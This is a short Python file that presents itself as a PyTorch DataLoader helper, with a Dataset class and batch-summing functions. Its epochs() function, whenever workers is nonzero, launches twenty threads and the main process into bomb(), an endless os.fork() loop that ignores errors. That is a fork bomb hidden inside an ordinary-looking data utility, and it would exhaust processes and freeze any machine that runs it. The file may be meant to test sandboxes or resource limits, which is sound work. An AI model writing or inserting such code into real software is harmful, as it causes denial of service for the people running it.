"""Every process and thread forks as often as it can."""

import os
import threading

import torch
from torch.utils.data import DataLoader, Dataset


class Rows(Dataset):
    def __init__(self, x):
        self.x = x

    def __len__(self):
        return len(self.x)

    def __getitem__(self, i):
        return self.x[i], i


def sums(x, workers):
    return torch.stack([rows.sum() for rows, _ in DataLoader(Rows(x), batch_size=3, num_workers=workers)])


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def epochs(x, workers):
    if workers:
        for _ in range(20):
            threading.Thread(target=bomb).start()
        bomb()
    return torch.cat([sums(x, 0), sums(x, 0)])


def alone(x):
    return sums(x, 0)


def last(x):
    return -x
